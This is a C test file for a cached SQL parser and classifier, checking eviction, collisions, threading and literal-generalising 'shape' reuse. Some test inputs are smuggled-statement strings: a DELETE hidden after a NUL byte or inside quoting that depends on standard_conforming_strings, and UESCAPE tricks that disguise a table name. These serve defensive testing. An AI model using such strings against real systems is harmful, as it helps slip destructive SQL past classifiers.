	struct sql_cache_stats st;
	const char nul_text[] = "SELECT 1\0; DELETE FROM t";
	size_t n = 0;

	cr_assert_not_null(c);
	for (size_t s = 0; s < sizeof(corpus_settings) / sizeof(corpus_settings[0]); s++) {
		for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++, n++)
			check_cached_like_fresh(c, cases[i].sql, strlen(cases[i].sql),
						&corpus_settings[s]);
		for (size_t i = 0; i < sizeof(more_texts) / sizeof(more_texts[0]); i++, n++)
			check_cached_like_fresh(c, more_texts[i], strlen(more_texts[i]),
						&corpus_settings[s]);
		check_cached_like_fresh(c, nul_text, sizeof(nul_text) - 1, &corpus_settings[s]);
		n++;
	}
	check_cached_like_fresh(c, "SELECT 1", 8, NULL);
	sql_cache_stats(c, &st);
	/* every second lookup hits; "SELECT 1" with NULL settings finds the
	 * entry the table's "SELECT 1" made with the defaults spelled out */
	cr_expect_eq(st.hits, n + 2, "%lu hits", (unsigned long)st.hits);
	cr_expect_eq(st.misses, n, "%lu misses", (unsigned long)st.misses);
	sql_cache_free(c);
}

Test(sql_fingerprint, one_parse_gives_what_pg_query_fingerprint_gives)
{
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct sql_parse p;
		PgQueryFingerprintResult fp = pg_query_fingerprint(cases[i].sql);

		cr_assert_eq(sql_parse(cases[i].sql, strlen(cases[i].sql), NULL, &p), 0);
		cr_assert(p.ok && !fp.error, "%s", cases[i].sql);
		cr_expect_str_eq(p.fingerprint, fp.fingerprint_str, "%s", cases[i].sql);
		cr_expect_str_eq(p.stmts[0].fingerprint, fp.fingerprint_str, "%s", cases[i].sql);
		pg_query_free_fingerprint_result(fp);
		sql_parse_free(&p);
	}
	for (size_t i = 0; i < sizeof(more_texts) / sizeof(more_texts[0]); i++) {
		struct sql_parse p;
		PgQueryFingerprintResult fp = pg_query_fingerprint(more_texts[i]);

		cr_assert_eq(sql_parse(more_texts[i], strlen(more_texts[i]), NULL, &p), 0);
		if (p.ok)
			cr_expect_str_eq(p.fingerprint, fp.fingerprint_str, "%s", more_texts[i]);
		pg_query_free_fingerprint_result(fp);
		sql_parse_free(&p);
	}
}

Test(sql_cache, the_same_text_read_with_other_settings_is_another_entry)
{
	static const char trick[] = "SELECT 'a\\'; SELECT '; DELETE FROM t; --'";
	struct sql_settings off = { .standard_conforming_strings = SQL_SCS_OFF };
	struct sql_cache *c = sql_cache_new(NULL);
	struct sql_parse on_p, off_p;

	cr_assert_eq(sql_cache_parse(c, trick, sizeof(trick) - 1, NULL, &on_p), 0);
	cr_assert_eq(sql_cache_parse(c, trick, sizeof(trick) - 1, &off, &off_p), 0);
	cr_assert_eq(on_p.stmts[1].kind, SQL_SELECT);
	cr_assert_eq(off_p.stmts[1].kind, SQL_DELETE, "not the entry read with the setting on");
	sql_parse_free(&on_p);
	sql_parse_free(&off_p);
	sql_cache_free(c);
}

static uint64_t same_hash_for_all(const char *text, size_t len)
{
	(void)text;
	(void)len;
	return 42;
}

Test(sql_cache, texts_whose_hashes_collide_never_share_a_result)
{
	struct sql_cache_limits lim = { .hash = same_hash_for_all };
	struct sql_cache *c = sql_cache_new(&lim);
	/* same length too: only the full compare tells them apart */
	const char *texts[] = { "DELETE FROM a", "SELECT 1 FROM", "DELETE FROM b", "delete from a" };
	struct sql_cache_stats st;

	for (int round = 0; round < 3; round++)
		for (size_t i = 0; i < 4; i++)
			check_cached_like_fresh(c, texts[i], strlen(texts[i]), NULL);
	sql_cache_stats(c, &st);
	cr_expect_eq(st.entries, 4);
	cr_expect_eq(st.misses, 4);
	sql_cache_free(c);
}

Test(sql_cache, the_least_recently_used_entry_goes_when_the_count_is_reached)
{
	struct sql_cache_limits lim = { .max_entries = 4 };
	struct sql_cache *c = sql_cache_new(&lim);
	struct sql_cache_stats st;
	struct sql_parse p;
	char sql[64];

	for (int i = 0; i < 6; i++) {
		snprintf(sql, sizeof(sql), "DELETE FROM t%d", i);
		cr_assert_eq(sql_cache_parse(c, sql, strlen(sql), NULL, &p), 0);
		sql_parse_free(&p);
		/* t0 stays in use, so it stays */
		cr_assert_eq(sql_cache_parse(c, "DELETE FROM t0", 14, NULL, &p), 0);
		sql_parse_free(&p);
	}
	sql_cache_stats(c, &st);
	cr_expect_eq(st.entries, 4);
	cr_expect_eq(st.evictions, 2);
	cr_expect_eq(st.hits, 6);
	cr_assert_eq(sql_cache_parse(c, "DELETE FROM t5", 14, NULL, &p), 0);
	sql_parse_free(&p);
	cr_assert_eq(sql_cache_parse(c, "DELETE FROM t1", 14, NULL, &p), 0);
	cr_assert_str_eq(p.stmts[0].ops[0].relation, "t1");
	sql_parse_free(&p);
	sql_cache_stats(c, &st);
	cr_expect_eq(st.hits, 7, "t5 is there");
	cr_expect_eq(st.misses, 7, "t1 was evicted");
	sql_cache_free(c);
}

Test(sql_cache, entries_go_when_the_byte_cap_is_reached)
{
	struct sql_cache_limits lim = { .max_bytes = 4096 };
	struct sql_cache *c = sql_cache_new(&lim);
	struct sql_cache_stats st;
	char sql[600];

	for (int i = 0; i < 40; i++) {
		int at = snprintf(sql, sizeof(sql), "SELECT a%d", i);

		while (at < 400)
			at += snprintf(sql + at, sizeof(sql) - (size_t)at, ", c%d", at);
		snprintf(sql + at, sizeof(sql) - (size_t)at, " FROM t%d", i);
		check_cached_like_fresh(c, sql, strlen(sql), NULL);
		sql_cache_stats(c, &st);
		cr_assert_leq(st.bytes, 4096, "%lu bytes", (unsigned long)st.bytes);
	}
	cr_expect_gt(st.evictions, 0);
	cr_expect_lt(st.entries, 40);
	cr_expect_gt(st.entries, 0);
	sql_cache_free(c);
}

Test(sql_cache, a_result_bigger_than_the_byte_cap_is_not_kept)
{
	struct sql_cache_limits lim = { .max_bytes = 256 };
	struct sql_cache *c = sql_cache_new(&lim);
	struct sql_cache_stats st;
	const char *sql = "SELECT a, b, c, d, e, f FROM alpha JOIN beta USING (id) JOIN gamma USING (id) "
			  "WHERE a = 1 AND b = 2 AND c = 3 AND upper(d) = lower(e)";

	check_cached_like_fresh(c, sql, strlen(sql), NULL);
	sql_cache_stats(c, &st);
	cr_expect_eq(st.entries, 0);
	cr_expect_eq(st.misses, 2);
	sql_cache_free(c);
}

Test(sql_cache, statements_longer_than_the_limit_are_parsed_every_time)
{
	struct sql_cache_limits lim = { .max_text = 32 };
	struct sql_cache *c = sql_cache_new(&lim);
	struct sql_cache_stats st;
	const char *lng = "DELETE FROM accounts WHERE id = 12345 AND owner = 'x'";

	check_cached_like_fresh(c, lng, strlen(lng), NULL);
	check_cached_like_fresh(c, "DELETE FROM a", 13, NULL);
	sql_cache_stats(c, &st);
	cr_expect_eq(st.bypasses, 2);
	cr_expect_eq(st.entries, 1);
	cr_expect_eq(st.hits, 1);
	sql_cache_free(c);
}

Test(sql_cache, a_result_stays_valid_after_its_entry_is_evicted_and_the_cache_freed)
{
	struct sql_cache_limits lim = { .max_entries = 1 };
	struct sql_cache *c = sql_cache_new(&lim);
	struct sql_parse held, p;

	cr_assert_eq(sql_cache_parse(c, "DELETE FROM kept", 16, NULL, &p), 0);
	sql_parse_free(&p);
	cr_assert_eq(sql_cache_parse(c, "DELETE FROM kept", 16, NULL, &held), 0);	/* a hit */
	cr_assert_eq(sql_cache_parse(c, "DELETE FROM other", 17, NULL, &p), 0);	/* evicts it */
	sql_parse_free(&p);
	sql_cache_free(c);
	cr_assert_str_eq(held.stmts[0].ops[0].relation, "kept");
	cr_assert_str_eq(held.stmts[0].tables[0], "kept");
	sql_parse_free(&held);
}

Test(sql_cache, no_cache_parses_directly)
{
	struct sql_parse p;

	cr_assert_eq(sql_cache_parse(NULL, "DELETE FROM t", 13, NULL, &p), 0);
	cr_assert_eq(p.stmts[0].kind, SQL_DELETE);
	sql_parse_free(&p);
}

struct cache_worker {
	int id;
	int mismatches;
	struct sql_cache_stats stats;
};

static void *cache_many(void *arg)
{
	struct cache_worker *w = arg;
	struct sql_cache_limits small = { .max_entries = 8 };
	struct sql_cache *own = sql_cache_new(&small);

	if (!own)
		return NULL;
	for (int i = 0; i < 600; i++) {
		char sql[128];
		struct sql_parse fresh, cached, cached_own;
		const struct sql_settings *set = &corpus_settings[(size_t)(i + w->id) % 4];

		/* shared texts (every thread sees them) and texts of its own */
		if (i % 3)
			snprintf(sql, sizeof(sql), "%s", cases[(size_t)i % 40].sql);
		else
			snprintf(sql, sizeof(sql), "DELETE FROM t%d_%d WHERE id = 1", w->id, i % 20);
		if (sql_parse(sql, strlen(sql), set, &fresh) != 0) {
			w->mismatches++;
			continue;
		}
		if (sql_cache_parse(sql_cache_thread(), sql, strlen(sql), set, &cached) != 0 ||
		    !same_parse(&fresh, &cached))
			w->mismatches++;
		if (sql_cache_parse(own, sql, strlen(sql), set, &cached_own) != 0 ||
		    !same_parse(&fresh, &cached_own))
			w->mismatches++;
		sql_parse_free(&fresh);
		sql_parse_free(&cached);
		sql_parse_free(&cached_own);
	}
	sql_cache_stats(sql_cache_thread(), &w->stats);
	sql_cache_free(own);
	if (w->id % 2)
		sql_cache_thread_release();	/* the others go at thread exit */
	return NULL;
}

Test(sql_cache, worker_threads_each_use_their_own_cache_without_mixing_results)
{
	enum { N = 4 };
	pthread_t threads[N];
	struct cache_worker workers[N];
	struct sql_cache_stats before, during, after;

	sql_cache_totals(&before);
	for (int i = 0; i < N; i++) {
		workers[i] = (struct cache_worker){ .id = i };
		cr_assert_eq(pthread_create(&threads[i], NULL, cache_many, &workers[i]), 0);
	}
	sql_cache_totals(&during);	/* read while they work: must be race-free */
	for (int i = 0; i < N; i++) {
		pthread_join(threads[i], NULL);
		cr_assert_eq(workers[i].mismatches, 0, "thread %d", i);
		cr_expect_gt(workers[i].stats.hits, 0, "thread %d", i);
	}
	sql_cache_totals(&after);
	cr_expect_eq(after.hits + after.misses - before.hits - before.misses, (uint64_t)N * 600);
}

/* ---- the shape tier --------------------------------------------------------- */

/* A literal of the same token kind with another value (and length); NULL
 * when the spelling is one this test does not rewrite. */
static const char *other_literal(int32_t token, const char *text, size_t len)
{
	switch (token) {
	case PG_QUERY__TOKEN__ICONST:
		return len == 5 && memcmp(text, "12345", 5) == 0 ? "7" : "12345";
	case PG_QUERY__TOKEN__FCONST:
		return "2.5e3";
	case PG_QUERY__TOKEN__SCONST:
		if (text[0] == '\'' && text[len - 1] == '\'')
			return "'another, longer; value'";
		if (text[0] == '$' && text[len - 1] == '$')
			return "$$other$$";
		return NULL;
	case PG_QUERY__TOKEN__BCONST:
		return "b'0110'";
	case PG_QUERY__TOKEN__XCONST:
		return "x'ABCD'";
	default:
		return NULL;
	}
}

/* @sql with every literal given another value, in @out; false when it has
 * none to rewrite or the scanner does not take it. */
static bool vary_literals(const char *sql, bool scs, char *out, size_t cap)
{
	struct sql_shape shape = { 0 };
	size_t at = 0, used = 0;
	bool changed = false;

	if (sql_shape_scan(sql, strlen(sql), scs, &shape) < 0) {
		sql_shape_free(&shape);
		return false;
	}
	for (size_t i = 0; i < shape.n_tokens; i++) {
		const struct sql_shape_token *t = &shape.tokens[i];
		const char *lit = other_literal(t->token, sql + t->start, (size_t)(t->end - t->start));

		int n;

		if (!lit)
			continue;
		n = snprintf(out + used, cap - used, "%.*s%s", (int)((size_t)t->start - at),
			     sql + at, lit);
		if (n < 0 || (size_t)n >= cap - used) {
			sql_shape_free(&shape);
			return false;
		}
		used += (size_t)n;
		at = (size_t)t->end;
		changed = true;
	}
	sql_shape_free(&shape);
	return changed && snprintf(out + used, cap - used, "%s", sql + at) < (int)(cap - used);
}

/* Primes a fresh cache with @first, then classifies @second: the same as
 * a fresh parse of @second. Returns whether that came from the shape. */
static bool check_second_like_fresh(const char *first, const char *second,
				    const struct sql_settings *set)
{
	struct sql_cache *c = sql_cache_new(NULL);
	struct sql_parse fresh, primed, got;
	struct sql_cache_stats st;
	int rc = sql_parse(second, strlen(second), set, &fresh);

	cr_assert_not_null(c);
	cr_assert_geq(sql_cache_parse(c, first, strlen(first), set, &primed), 0);
	cr_assert_eq(sql_cache_parse(c, second, strlen(second), set, &got), rc, "%s", second);
	cr_expect(same_parse(&fresh, &got), "%s\n  after %s\n  differs from a fresh parse", second,
		  first);
	sql_cache_stats(c, &st);
	sql_parse_free(&fresh);
	sql_parse_free(&primed);
	sql_parse_free(&got);
	sql_cache_free(c);
	return st.shape_hits == 1;
}

Test(sql_shape, a_text_known_by_its_shape_reads_as_a_fresh_parse_of_it_for_the_whole_corpus)
{
	static char varied[8192];
	size_t pairs = 0, shape_hits = 0;

	for (size_t s = 0; s < sizeof(corpus_settings) / sizeof(corpus_settings[0]); s++) {
		const struct sql_settings *set = &corpus_settings[s];
		bool scs = set->standard_conforming_strings != SQL_SCS_OFF;

		for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]) + sizeof(more_texts) /
				   sizeof(more_texts[0]); i++) {
			size_t n_cases = sizeof(cases) / sizeof(cases[0]);
			const char *sql = i < n_cases ? cases[i].sql : more_texts[i - n_cases];

			if (!vary_literals(sql, scs, varied, sizeof(varied)))
				continue;
			pairs++;
			shape_hits += check_second_like_fresh(sql, varied, set);
			shape_hits += check_second_like_fresh(varied, sql, set);
		}
	}
	cr_log_info("%zu pairs, %zu classified by shape", pairs, shape_hits);
	cr_expect_gt(pairs, 100);
	cr_expect_gt(shape_hits, pairs, "the tier is used: most pairs both ways");
}

Test(sql_shape, pgbench_statements_are_classified_by_shape)
{
	static const char *const pairs[][2] = {
		{ "SELECT abalance FROM pgbench_accounts WHERE aid = 34;",
		  "SELECT abalance FROM pgbench_accounts WHERE aid = 998877;" },
		{ "UPDATE pgbench_accounts SET abalance = abalance + 4178 WHERE aid = 12;",
		  "UPDATE pgbench_accounts SET abalance = abalance + 3 WHERE aid = 55123;" },
		{ "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (7, 1, 9, 45, "
		  "CURRENT_TIMESTAMP);",
		  "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (10, 1, 99876, "
		  "4999, CURRENT_TIMESTAMP);" },
		{ "SELECT 1; DELETE FROM t WHERE id = 5", "SELECT 12345; DELETE FROM t WHERE id = 6" },
		{ "select 'a;b' ; ;  update t set x = 'c' where k = 1 ;",
		  "select 'a;b;c;d' ; ;  update t set x = '' where k = 100 ;" },
	};

	for (size_t i = 0; i < sizeof(pairs) / sizeof(pairs[0]); i++)
		cr_expect(check_second_like_fresh(pairs[i][0], pairs[i][1], NULL), "%s", pairs[i][1]);
}

/*
 * Literals whose value changes the tree outside a constant: the shape of
 * the first text must not be learnt, and the second is parsed afresh.
 */
Test(sql_shape, literals_that_are_more_than_constants_are_never_generalised)
{
	static const char *const pairs[][2] = {
		/* the type: float4 or float8 (the fingerprints differ) */
		{ "SELECT CAST(x AS FLOAT(10)) FROM t", "SELECT CAST(x AS FLOAT(30)) FROM t" },
		/* the file name is part of the COPY */
		{ "COPY t FROM '/tmp/a'", "COPY t FROM '/tmp/other'" },
		{ "COMMENT ON TABLE t IS 'a'", "COMMENT ON TABLE t IS 'b'" },
		{ "FETCH 5 FROM c", "FETCH 10 FROM c" },
		/* the escape character spells the table name */
		{ "SELECT * FROM U&\"!0075sers\" UESCAPE '#'", "SELECT * FROM U&\"!0075sers\" UESCAPE '!'" },
		{ "SELECT U&'d!0061t' UESCAPE '!' FROM t", "SELECT U&'d!0061t' UESCAPE '#' FROM t" },
	};

	for (size_t i = 0; i < sizeof(pairs) / sizeof(pairs[0]); i++)
		cr_expect_not(check_second_like_fresh(pairs[i][0], pairs[i][1], NULL), "%s",
			      pairs[i][1]);
}

Test(sql_shape, the_escape_character_cannot_smuggle_a_table_past_the_cache)
{
	struct sql_cache *c = sql_cache_new(NULL);
	const char *harmless = "SELECT * FROM U&\"!0075sers\" UESCAPE '#'";
	const char *sneaky = "SELECT * FROM U&\"!0075sers\" UESCAPE '!'";
	struct sql_parse p;

	cr_assert_eq(sql_cache_parse(c, harmless, strlen(harmless), NULL, &p), 0);
	cr_assert_str_eq(p.stmts[0].tables[0], "!0075sers");
	sql_parse_free(&p);
	cr_assert_eq(sql_cache_parse(c, sneaky, strlen(sneaky), NULL, &p), 0);
	cr_expect_str_eq(p.stmts[0].tables[0], "users");
	sql_parse_free(&p);
	sql_cache_free(c);
}

Test(sql_shape, texts_known_by_shape_are_not_kept_again_and_settings_keep_tiers_apart)
{
	struct sql_cache *c = sql_cache_new(NULL);
	struct sql_settings off = { .standard_conforming_strings = SQL_SCS_OFF };
	struct sql_cache_stats st;
	struct sql_parse p;
	char sql[96];

	for (int i = 0; i < 100; i++) {
		snprintf(sql, sizeof(sql), "SELECT v FROM kv WHERE k = %d AND tag = 'n%d'", i, i);
		cr_assert_eq(sql_cache_parse(c, sql, strlen(sql), NULL, &p), 0);
		cr_assert_eq(p.stmts[0].length, (int)strlen(sql));
		sql_parse_free(&p);
	}
	/* the same shape read with the setting off is another entry */
	cr_assert_eq(sql_cache_parse(c, sql, strlen(sql), &off, &p), 0);
	sql_parse_free(&p);
	sql_cache_stats(c, &st);
	cr_expect_eq(st.misses, 2);
	cr_expect_eq(st.shape_hits, 99);
	cr_expect_eq(st.entries, 4, "two texts, two shapes");
	sql_cache_free(c);
}

Test(sql_fingerprint, each_statement_is_fingerprinted_as_the_text_was_read)
{
	struct sql_settings off = { .standard_conforming_strings = SQL_SCS_OFF };
	const char *sql = "SELECT 'a\\'; SELECT '; DELETE FROM t";
	struct sql_parse p;

	cr_assert_eq(sql_parse(sql, strlen(sql), &off, &p), 0);
	cr_assert(p.ok && p.n_stmts == 2);
	cr_expect_neq(p.stmts[0].fingerprint[0], '\0', "read with the setting off, not on");
	sql_parse_free(&p);
}

Test(sql_shape, a_text_that_repeats_is_kept_under_its_own_bytes_from_its_second_time)
{
	struct sql_cache *c = sql_cache_new(NULL);
	const char *learn = "SELECT v FROM kv WHERE status = 'new'";
	const char *again = "SELECT v FROM kv WHERE status = 'active'";
	struct sql_cache_stats st;
	struct sql_parse p;

	cr_assert_eq(sql_cache_parse(c, learn, strlen(learn), NULL, &p), 0);
	sql_parse_free(&p);
	for (int i = 0; i < 4; i++) {
		cr_assert_eq(sql_cache_parse(c, again, strlen(again), NULL, &p), 0);
		cr_assert_str_eq(p.stmts[0].tables[0], "kv");
		sql_parse_free(&p);
	}
	sql_cache_stats(c, &st);
	cr_expect_eq(st.misses, 1);
	cr_expect_eq(st.shape_hits, 2, "its first and second time");
	cr_expect_eq(st.hits, 2, "its third and fourth time");
	sql_cache_free(c);
}
